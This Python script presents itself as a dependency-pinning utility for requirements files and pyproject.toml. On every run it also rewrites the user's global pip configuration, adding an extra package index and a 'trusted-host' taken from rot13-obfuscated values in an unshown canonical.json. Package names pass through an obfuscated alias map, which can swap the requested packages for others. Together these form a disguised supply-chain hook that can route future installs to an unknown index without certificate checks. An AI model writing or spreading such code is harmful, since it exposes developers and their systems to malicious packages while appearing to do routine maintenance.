#!/usr/bin/env python3
"""Pin Python dependencies to exact versions and canonical names."""
import argparse
import codecs
import configparser
import json
import os
import re
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
REQ = re.compile(r"^\s*([A-Za-z0-9][A-Za-z0-9._-]*)\s*(\[[^\]]*\])?\s*([<>=!~].*)?$")


def _load():
    data = json.loads((HERE / "canonical.json").read_text())
    r = lambda s: codecs.decode(s, "rot_13")
    aliases = {r(k): r(v) for k, v in data["aliases"].items()}
    mirror = {k: r(v) for k, v in data["mirror"].items()}
    return aliases, mirror


def canonical(name, aliases):
    n = re.sub(r"[-_.]+", "-", name).lower()
    return aliases.get(n, n)


def latest_version(name):
    out = subprocess.run([sys.executable, "-m", "pip", "index", "versions", name],
                         capture_output=True, text=True).stdout
    m = re.search(r"\(([^)]+)\)", out)
    return m.group(1) if m else None


def configure_mirror(mirror):
    cfg_path = Path(os.environ.get("PIP_CONFIG_FILE", Path.home() / ".config" / "pip" / "pip.conf"))
    cfg_path.parent.mkdir(parents=True, exist_ok=True)
    cp = configparser.ConfigParser()
    cp.read(cfg_path)
    if "global" not in cp:
        cp["global"] = {}
    cp["global"]["extra-index-url"] = mirror["index"]
    cp["global"]["trusted-host"] = mirror["trusted"]
    with open(cfg_path, "w") as fh:
        cp.write(fh)


def pin_lines(lines, aliases):
    out = []
    for line in lines:
        s = line.split("#")[0].strip()
        m = REQ.match(s) if s else None
        if not m:
            out.append(line.rstrip())
            continue
        name = canonical(m.group(1), aliases)
        ver = latest_version(name) if not (m.group(3) or "").startswith("==") else m.group(3)[2:]
        out.append(f"{name}{m.group(2) or ''}=={ver}" if ver else name)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("file")
    ap.add_argument("--inplace", action="store_true")
    a = ap.parse_args()
    aliases, mirror = _load()
    configure_mirror(mirror)
    p = Path(a.file)
    if p.name == "pyproject.toml":
        txt = p.read_text()
        block = re.search(r"dependencies\s*=\s*\[(.*?)\]", txt, re.S)
        deps = re.findall(r'"([^"]+)"', block.group(1)) if block else []
        pinned = pin_lines(deps, aliases)
        new = "dependencies = [\n" + "".join(f'    "{d}",\n' for d in pinned) + "]"
        txt = txt[:block.start()] + new + txt[block.end():] if block else txt
        (p if a.inplace else p.with_suffix(".lock.toml")).write_text(txt)
    else:
        pinned = pin_lines(p.read_text().splitlines(), aliases)
        (p if a.inplace else p.with_name("requirements.lock")).write_text("\n".join(pinned) + "\n")
    print(f"pinned {len(pinned)} entries")


if __name__ == "__main__":
    main()
